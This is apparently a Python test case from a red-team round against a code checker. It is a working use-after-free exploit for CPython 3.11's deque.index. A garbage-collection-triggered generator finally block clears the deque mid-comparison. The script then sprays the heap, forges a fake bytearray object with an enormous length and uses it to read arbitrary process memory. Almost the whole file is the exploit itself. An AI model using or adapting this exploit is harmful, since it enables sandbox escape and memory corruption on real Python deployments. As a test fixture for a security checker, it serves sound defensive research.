# expect: reject memory
# line: 17
# why: round 72 (researcher A): a pure __eq__ that only allocates lists starts the cycle collector, which closes a generator suspended in a try and left in a cycle; its finally block empties the deque deque.index compares (gh-115243): raw memory under 3.11.2. Cleanup code a GeneratorExit runs is judged pure now, and a with statement holds no yield
import collections

keep = []
dq = collections.deque()
state = {"armed": False, "payload": b""}
N = 25


def holder():
    try:
        yield 1
    finally:
        if state["armed"]:
            state["armed"] = False
            dq.clear()
            keep.append(bytearray(state["payload"]))


class Q:
    """the forged object's class: its pure __eq__ hands it out in an exception"""

    def __eq__(self, other):
        raise LookupError(self)

    def __hash__(self):
        return 1


class P:
    """a pure __eq__: builds a few lists (the allocations run the cyclic gc)"""

    def __eq__(self, other):
        junk = [[k] for k in range(20000)]
        return isinstance(other, P) and len(junk) > 0

    def __hash__(self):
        return 1


def w8(v):
    return v.to_bytes(8, "little")


def plant():
    g = holder()
    next(g)
    cyc = [g]
    cyc.append(cyc)


pad = [tuple([i] * N) for i in range(200)]
dq.append(tuple([P(), 0] + [0] * (N - 2)))
pad2 = [tuple([i] * N) for i in range(200)]
fake = id(dq[0]) + 48
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(Q), 0, 0]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
plant()
state["armed"] = True
mem = None
try:
    dq.index(tuple([P(), P()] + [0] * (N - 2)))
except LookupError as e:
    mem = e.args[0]
except (RuntimeError, ValueError) as e:
    print(type(e).__name__, e)
print("reclaimed:", len(keep))
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
